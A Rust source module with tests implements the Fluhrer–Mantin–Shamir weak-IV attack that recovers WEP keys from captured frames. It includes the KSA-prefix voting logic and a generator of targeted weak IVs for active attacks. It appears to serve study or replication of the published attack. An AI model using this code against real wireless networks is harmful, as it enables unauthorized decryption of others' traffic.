//! The Fluhrer–Mantin–Shamir (FMS) weak-IV attack on WEP — the mathematics
//! inside Airsnort (paper references \[3\] "Weaknesses in the key scheduling
//! algorithm of RC4" and \[11\] "Using the Fluhrer, Mantin, and Shamir attack
//! to break WEP").
//!
//! ## How it works
//!
//! WEP keys RC4 with `IV ∥ secret`, and the 3-byte IV is sent in the clear.
//! For "resolved" IVs the first PRGA output byte depends on a *single*
//! unknown secret byte with probability ≈ 5%, and is uniform otherwise, so
//! a vote over many captured frames recovers the secret byte by byte:
//!
//! 1. To attack secret byte `a` (full key index `A = a + 3`), simulate the
//!    first `A` KSA steps using the known key prefix (IV plus already
//!    recovered bytes).
//! 2. If the state is *resolved* — `S\[1\] < A` and `S\[1\] + S[S\[1\]] == A` —
//!    then with p ≈ e⁻³ ≈ 5% the first keystream byte `out` satisfies
//!    `secret[a] = S⁻¹[out] − j − S[A] (mod 256)`.
//! 3. The first keystream byte is observable because 802.11 data frames
//!    start with the LLC/SNAP byte 0xAA: `out = ct\[0\] ^ 0xAA`.
//!
//! This module *re-implements* the KSA prefix simulation rather than
//! calling [`crate::rc4`], so the attack code is independent of the cipher
//! code it breaks.

/// First plaintext byte of an 802.11 LLC/SNAP data frame.
pub const SNAP_FIRST_BYTE: u8 = 0xAA;

/// One passively captured observation: cleartext IV and the first
/// keystream byte (`first ciphertext byte ^ 0xAA`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Sample {
    /// The 3 cleartext IV bytes.
    pub iv: [u8; 3],
    /// First keystream byte.
    pub ks0: u8,
}

impl Sample {
    /// Build a sample from sniffer observables.
    pub fn from_capture(iv: [u8; 3], first_ct_byte: u8) -> Sample {
        Sample {
            iv,
            ks0: first_ct_byte ^ SNAP_FIRST_BYTE,
        }
    }
}

/// Accumulates captured samples and recovers the key at crack time.
///
/// ```
/// use rogue_crypto::fms::{KeyRecovery, Sample, targeted_weak_ivs};
/// use rogue_crypto::rc4::Rc4;
/// let secret = b"KEY-1";
/// let mut kr = KeyRecovery::new();
/// for iv in targeted_weak_ivs(5, 256) {
///     let mut k = iv.to_vec();
///     k.extend_from_slice(secret);
///     kr.absorb(Sample { iv, ks0: Rc4::new(&k).next_byte() });
/// }
/// assert_eq!(kr.crack(5).key, secret);
/// ```
#[derive(Clone, Debug)]
pub struct KeyRecovery {
    /// Samples bucketed by `iv[0]` — the only IVs that can resolve
    /// secret byte `a` have `iv[0] == a + 3`, so `crack` scans exactly
    /// one bucket per key-byte position instead of every sample for
    /// every position. Insertion order is preserved within a bucket,
    /// so votes (and ties) are identical to the flat scan.
    buckets: Vec<Vec<Sample>>,
    count: usize,
}

impl Default for KeyRecovery {
    fn default() -> Self {
        KeyRecovery {
            buckets: vec![Vec::new(); 256],
            count: 0,
        }
    }
}

/// Result of a crack attempt.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CrackResult {
    /// Best-guess secret key bytes.
    pub key: Vec<u8>,
    /// Number of "resolved" votes each byte received for its winner.
    pub winning_votes: Vec<u32>,
    /// Total resolved samples per byte position (vote participation).
    pub resolved: Vec<u32>,
}

impl KeyRecovery {
    /// Fresh, empty collector.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of samples collected so far.
    pub fn len(&self) -> usize {
        self.count
    }

    /// True when no samples have been absorbed.
    pub fn is_empty(&self) -> bool {
        self.count == 0
    }

    /// Absorb one observation.
    pub fn absorb(&mut self, s: Sample) {
        self.buckets[s.iv[0] as usize].push(s);
        self.count += 1;
    }

    /// Attempt to recover a secret key of `key_len` bytes (5 or 13).
    ///
    /// Returns the most-voted key. The caller should verify the candidate
    /// (e.g. by `wep::open` on a captured frame) — exactly what Airsnort
    /// did — because with few samples the vote can elect a wrong byte.
    pub fn crack(&self, key_len: usize) -> CrackResult {
        let mut recovered: Vec<u8> = Vec::with_capacity(key_len);
        let mut winning_votes = Vec::with_capacity(key_len);
        let mut resolved_counts = Vec::with_capacity(key_len);

        for a in 0..key_len {
            let target = a + 3; // full-key index being attacked
            let mut votes = [0u32; 256];
            let mut resolved = 0u32;
            // Only IVs whose first byte equals the target index can be
            // resolved for this position with the classic structure;
            // the absorb-time buckets hand us exactly those samples, so
            // each position scans its own bucket instead of the whole
            // capture (E4 calls crack 10 replications × 8 cells per run).
            for s in &self.buckets[target] {
                if let Some(vote) = fms_vote(s, &recovered, target) {
                    votes[vote as usize] += 1;
                    resolved += 1;
                }
            }
            let (best, &count) = votes
                .iter()
                .enumerate()
                .max_by_key(|&(i, v)| (*v, std::cmp::Reverse(i)))
                .expect("256 candidates");
            recovered.push(best as u8);
            winning_votes.push(count);
            resolved_counts.push(resolved);
        }

        CrackResult {
            key: recovered,
            winning_votes,
            resolved: resolved_counts,
        }
    }
}

/// Simulate the KSA prefix for one sample and produce a vote for full-key
/// index `target` (`recovered` holds secret bytes 0..target-3). Returns
/// `None` when the state is not resolved.
fn fms_vote(s: &Sample, recovered: &[u8], target: usize) -> Option<u8> {
    debug_assert_eq!(recovered.len() + 3, target);
    // Known key prefix: IV ∥ recovered secret bytes.
    let mut key_prefix = [0u8; 16 + 3];
    key_prefix[..3].copy_from_slice(&s.iv);
    key_prefix[3..3 + recovered.len()].copy_from_slice(recovered);

    // Partial KSA over the first `target` steps (i = 0..target-1).
    let mut st: [u8; 256] = core::array::from_fn(|i| i as u8);
    let mut j: u8 = 0;
    for (i, &k) in key_prefix.iter().enumerate().take(target) {
        j = j.wrapping_add(st[i]).wrapping_add(k);
        st.swap(i, j as usize);
    }

    // Resolved condition.
    let s1 = st[1] as usize;
    if s1 >= target || s1 + st[s1] as usize != target {
        return None;
    }
    // Invert the permutation at the observed keystream byte.
    let inv = st.iter().position(|&v| v == s.ks0).expect("permutation") as u8;
    Some(inv.wrapping_sub(j).wrapping_sub(st[target]))
}

/// Generate the classic targeted weak IVs `(a+3, 0xFF, x)` for all key
/// byte positions — useful for attack tooling that can *induce* traffic
/// (active variant) and for fast tests.
pub fn targeted_weak_ivs(key_len: usize, per_position: usize) -> Vec<[u8; 3]> {
    let mut out = Vec::with_capacity(key_len * per_position);
    for a in 0..key_len {
        for x in 0..per_position {
            out.push([(a + 3) as u8, 0xFF, (x % 256) as u8]);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rc4::Rc4;
    use crate::wep::{seal, WepKey};

    /// Oracle: first keystream byte for IV ∥ secret, via the real cipher.
    fn ks0(iv: [u8; 3], secret: &[u8]) -> u8 {
        let mut key = Vec::with_capacity(3 + secret.len());
        key.extend_from_slice(&iv);
        key.extend_from_slice(secret);
        Rc4::new(&key).next_byte()
    }

    fn collect_weak(secret: &[u8], per_position: usize) -> KeyRecovery {
        let mut kr = KeyRecovery::new();
        for iv in targeted_weak_ivs(secret.len(), per_position) {
            kr.absorb(Sample {
                iv,
                ks0: ks0(iv, secret),
            });
        }
        kr
    }

    #[test]
    fn cracks_40_bit_key_from_weak_ivs() {
        let secret = b"AB#12";
        let kr = collect_weak(secret, 256);
        let res = kr.crack(5);
        assert_eq!(&res.key, secret, "votes: {:?}", res.winning_votes);
    }

    #[test]
    fn cracks_104_bit_key_from_weak_ivs() {
        let secret = b"thirteen-byte";
        let kr = collect_weak(secret, 256);
        let res = kr.crack(13);
        assert_eq!(&res.key, secret);
    }

    #[test]
    fn too_few_samples_fail() {
        let secret = b"AB#12";
        let kr = collect_weak(secret, 3);
        let res = kr.crack(5);
        // With only 3 weak IVs per position the vote is essentially noise;
        // the test asserts the attack *reports* weak support rather than
        // silently being wrong — winning votes should be small.
        assert!(
            res.winning_votes.iter().all(|&v| v <= 3),
            "votes {:?}",
            res.winning_votes
        );
    }

    #[test]
    fn sample_from_capture_uses_snap() {
        let s = Sample::from_capture([1, 2, 3], 0xAA);
        assert_eq!(s.ks0, 0);
        let s = Sample::from_capture([1, 2, 3], 0x00);
        assert_eq!(s.ks0, 0xAA);
    }

    #[test]
    fn end_to_end_against_wep_seal() {
        // Full pipeline: sealed WEP frames -> sniffer observables ->
        // crack -> recovered key opens a frame.
        use crate::wep::{open, peek_first_ct_byte, peek_iv};
        let key = WepKey::new(b"KEY42");
        let payload = {
            // 802.11 data payloads start with LLC/SNAP 0xAA.
            let mut p = vec![0xAAu8];
            p.extend_from_slice(b"\x03\x00\x00\x00\x08\x00payload");
            p
        };

        let mut kr = KeyRecovery::new();
        let mut a_frame = None;
        for iv in targeted_weak_ivs(5, 256) {
            let body = seal(&key, iv, 0, &payload);
            let iv_seen = peek_iv(&body).unwrap();
            let ct0 = peek_first_ct_byte(&body).unwrap();
            kr.absorb(Sample::from_capture(iv_seen, ct0));
            a_frame = Some(body);
        }

        let res = kr.crack(5);
        let candidate = WepKey::new(&res.key);
        let opened = open(&candidate, &a_frame.unwrap()).expect("recovered key must work");
        assert_eq!(opened, payload);
    }

    #[test]
    fn targeted_ivs_have_classic_shape() {
        let ivs = targeted_weak_ivs(5, 10);
        assert_eq!(ivs.len(), 50);
        assert!(ivs.iter().all(|iv| iv[1] == 0xFF));
        assert!(ivs.iter().all(|iv| (3..8).contains(&iv[0])));
    }
}
